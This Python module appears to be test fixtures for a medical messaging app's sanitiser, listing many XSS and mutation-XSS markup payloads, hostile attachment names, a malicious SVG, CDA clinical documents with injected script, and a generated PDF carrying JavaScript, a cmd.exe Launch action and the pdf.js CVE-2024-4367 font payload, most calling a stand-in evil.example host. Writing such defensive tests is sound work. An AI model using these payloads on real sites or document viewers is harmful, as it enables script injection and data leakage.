"""What a hostile sender writes: markup, drawings, documents, file names and calendar text that would act if they could.

Each would set `globalThis.hit`, open a dialog, ask another origin for something, or cover the page. The markup is of
the classes that are publicly known (OWASP's and PortSwigger's cheat sheets name them), written for here.
"""

from typing import Final

EVIL: Final = "https://evil.example"
HIT: Final = "globalThis.hit=1"
MARKUP: Final = (
    f"<script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT >",
    f"<script src={EVIL}/x.js></script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f'<img src=x onerror="{HIT}">',
    f'<img src="{EVIL}/pixel.gif" srcset="{EVIL}/a 1x, {EVIL}/b 2x" lowsrc={EVIL}>',
    f'<IMG """><SCRIPT>{HIT}</SCRIPT>"\\>',
    f"<img/src=x/onerror={HIT}//",
    f'<picture><source srcset={EVIL}/p onerror="{HIT}"><img src={EVIL}/p></picture>',
    f"<svg onload={HIT}></svg>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href='data:text/javascript,{HIT}' /></svg>",
    f'<svg><animate onbegin="{HIT}" attributeName=x dur=1s></svg>',
    f'<svg><a xlink:href="javascript:{HIT}"><text y=20>ici</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={HIT}></svg>#x"></use></svg>',
    f'<svg><foreignObject><body onload="{HIT}"></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HIT}&gt;">',
    f'<math href="javascript:{HIT}">ici</math>',
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={HIT} src>">',
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    f"<template><script>{HIT}</script></template>",
    f"<table background='{EVIL}/t'><tr><td background='{EVIL}/td' onmouseover={HIT}>case</td></tr></table>",
    f'<a href="javascript:{HIT}">lien 1</a>',
    f'<a href=" &#1; java&#x09;script&colon;{HIT}">lien 2</a>',
    f'<a href="data:text/html,<script>{HIT}</script>">lien 3</a>',
    f'<a href="vbscript:{HIT}">lien 4</a>',
    f'<a href="blob:{EVIL}/x" ping="{EVIL}/ping" target=_top>lien 5</a>',
    f'<a href="https://sante.example" onclick="{HIT}" style="position:fixed;inset:0;z-index:99999">lien 6</a>',
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f'<iframe src="javascript:parent.{HIT}"></iframe><frameset onload={HIT}><frame src={EVIL}></frameset>',
    f"<object data='data:text/html,<script>{HIT}</script>'></object><embed src='{EVIL}/e.swf'>",
    f"<applet code={EVIL}></applet><portal src={EVIL}></portal><fencedframe src={EVIL}></fencedframe>",
    f"<video src={EVIL}/v onloadstart={HIT} autoplay><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT} autoplay></audio><bgsound src={EVIL}>",
    f"<details open ontoggle={HIT}><summary>ouvrir</summary></details>",
    f"<marquee onstart={HIT}>défile</marquee><blink>clignote</blink>",
    f"<input autofocus onfocus={HIT}><select autofocus onfocus={HIT}></select><keygen autofocus onfocus={HIT}>",
    f"<textarea autofocus onfocus={HIT}></textarea><p contenteditable onfocus={HIT} autofocus tabindex=1>ici</p>",
    f"<form action='{EVIL}' id=f><button formaction='javascript:{HIT}'>Payer</button></form><input form=f name=submit>",
    f"<isindex type=image src=1 onerror={HIT} action=javascript:{HIT}>",
    f"<body onload={HIT} onpageshow={HIT} background='{EVIL}/body'>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}"><base href="{EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{HIT}">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name=referrer content=unsafe-url>',
    f"<link rel=stylesheet href='{EVIL}/s.css'><link rel=prefetch href='{EVIL}/p'><link rel=dns-prefetch href={EVIL}>",
    f"<link rel=manifest href='{EVIL}/m'><link rel=icon href='{EVIL}/i'><link rel=modulepreload href='{EVIL}/m.js'>",
    f"<style>@import '{EVIL}/i.css';body{{display:none}}@font-face{{font-family:x;src:url({EVIL}/f)}}</style>",
    f'<p style="background:url({EVIL}/bg);position:fixed;top:0;left:0;width:100vw;height:100vh">couvre</p>',
    '<div class="toast appears" id="app" role="alert" style="position:fixed;inset:0;z-index:2147483647">couvre</div>',
    '<div id=main name=main class="door-card"><h1>Connectez-vous</h1><input type=password name=password></div>',
    "<div style='margin:-4000px;transform:scale(40);opacity:0'>étend</div>",
    "<dialog open>modale</dialog><div popover id=pop>bulle</div><button popovertarget=pop autofocus>bulle</button>",
    "<a id=location><a id=document name=cookie><img name=body><form name=querySelector><input name=attributes></form>",
    f"<xss style='animation-name:x' onanimationstart={HIT}></xss><style>@keyframes x{{}}</style>",
    f"<p id=x tabindex=1 onfocusin={HIT} onpointerrawupdate={HIT} accesskey=x oncopy={HIT}>texte</p>",
    f"<custom-element onconnected={HIT} is=script><slot onslotchange={HIT}></slot></custom-element>",
    f"<!--[if gte IE 4]><script>{HIT}</script><![endif]--><!--><img src=x onerror={HIT}>-->",
    f"<![CDATA[<script>{HIT}</script>]]><?xml-stylesheet href='javascript:{HIT}'?>",
    f"<plaintext><img src=x onerror={HIT}>",
    f"\x00<\x00script>{HIT}</script><img \x0csrc=x \x0bonerror={HIT}>",
    f"<img src=x:x onerror=\\u0067lobalThis.hit=1><p>{'<div>' * 3000}profond",
    f"<script type=module>import '{EVIL}/m.js';{HIT}</script><script type=importmap>{{}}</script>",
    f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{EVIL}/s"]}}]}}</script>',
    f"{{{{constructor.constructor('{HIT}')()}}}} ${{{HIT}}} <%= {HIT} %>",
)

# A name with a slash or a control character is no attachment at all (docs/spec/attachment.md).
NAMES: Final = (
    "<img src=x onerror=globalThis.hit=1>.pdf",
    '"><script>globalThis.hit=1<script>.txt',
    "javascript:globalThis.hit=1",
    "..",
    "ordonnance\u202efdp.exe",
    "A" * 200 + ".pdf",
)
TEXTS: Final = f'<img src=x onerror="{HIT}"> <script>{HIT}</script> javascript:{HIT} {EVIL}/x \u202eenvers'

SVG: Final = (
    f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{EVIL}/dtd">]>'
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{HIT}">'
    f'<script>{HIT}</script><image xlink:href="{EVIL}/i.png" width="1" height="1"/>'
    f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}"/></foreignObject></svg>'
).encode()


def cda(narrative: str, *, doctype: str = "") -> bytes:
    """A CDA R2 document with this narrative, and with what would act everywhere else."""
    return (
        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{EVIL}/cda.xsl"?>{doctype}'
        '<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:h="http://www.w3.org/1999/xhtml"'
        f' xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xsi:schemaLocation="urn:hl7-org:v3 {EVIL}/cda.xsd">'
        f'<title>&lt;img src=x onerror={HIT}&gt;</title><code displayName="&lt;script&gt;{HIT}&lt;/script&gt;"/>'
        '<effectiveTime value="20240312143000+0100"/>'
        f'<h:script>{HIT}</h:script><xi:include href="{EVIL}/x"/>'
        f"<component><structuredBody><component><section><title>Lecture</title><text>{narrative}</text></section>"
        "</component></structuredBody></component></ClinicalDocument>"
    ).encode()


NARRATIVES: Final = (
    f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{HIT}</h:script><paragraph>Rien</paragraph>',
    f'<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="{HIT}"/><paragraph>Rien</paragraph>',
    f'<linkHtml href="javascript:{HIT}">lien</linkHtml><linkHtml href="{EVIL}/suivi">suivi</linkHtml>',
    (
        f'<renderMultiMedia referencedObject="x"/><table border="1" background="{EVIL}" onmouseover="{HIT}">'
        f'<tr><td style="position:fixed;inset:0" styleCode="xLarge" onclick="{HIT}">case</td></tr></table>'
    ),
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HIT}"><script>{HIT}</script></svg>',
    (
        f'<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="{EVIL}"/><h:style xmlns:h="http://www.w3.org/1999/xhtml">'
        f"body{{display:none}}</h:style>"
    ),
)


def pdf() -> bytes:
    """One page that runs scripts, starts programs, asks other places and sends forms, as far as a viewer lets it."""
    actions = (
        f"<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('{EVIL}'\\); globalThis.hit=1) >>",
        "<< /S /Launch /F (cmd.exe) >>",
        f"<< /S /URI /URI ({EVIL}/uri) >>",
        f"<< /S /SubmitForm /F << /FS /URL /F ({EVIL}/form) >> >>",
        f"<< /S /GoToR /F << /FS /URL /F ({EVIL}/autre.pdf) >> /D [0 /Fit] >>",
        f"<< /S /ImportData /F ({EVIL}/fdf) >>",
        "<< /S /URI /URI (javascript:globalThis.hit=1) >>",
    )
    notes = [
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A {action} /AA << /E {action} /PO {action} >> >>"
        for action in actions
    ]
    notes.append(
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (champ) /V (<img src=x onerror=globalThis.hit=1>)"
        f" /Rect [100 100 300 130] /AA << /K {actions[0]} /F {actions[0]} >> >>"
    )
    notes.append(f"<< /Type /Annot /Subtype /FileAttachment /FS << /F ({EVIL}/f.exe) >> /Rect [10 10 20 20] >>")
    first = 7
    listed = " ".join(f"{first + at} 0 R" for at in range(len(notes)))
    content = "BT /F1 24 Tf 60 700 Td (Compte rendu) Tj ET"
    objects = [
        (
            f"<< /Type /Catalog /Pages 2 0 R /OpenAction {actions[0]} /AA << /WC {actions[0]} >>"
            f" /URI << /Base ({EVIL}) >>"
            f" /Names << /JavaScript << /Names [(x) {actions[0]}] >> >> /AcroForm << /Fields [] /XFA ({EVIL}) >> >>"
        ),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [{listed}]"
            f" /AA << /O {actions[0]} >> /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>"
        ),
        f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
        # The FontMatrix through which pdf.js before 4.2 ran what it held (CVE-2024-4367).
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); globalThis.hit=1;//)] >>",
        (
            f"<< /Type /XObject /Subtype /Image /F << /FS /URL /F ({EVIL}/i.jpg) >> /Width 1 /Height 1 /Length 0 >>"
            "\nstream\n\nendstream"
        ),
        *notes,
    ]
    return _assembled([each.encode("latin-1") for each in objects])


def _assembled(objects: list[bytes]) -> bytes:
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)
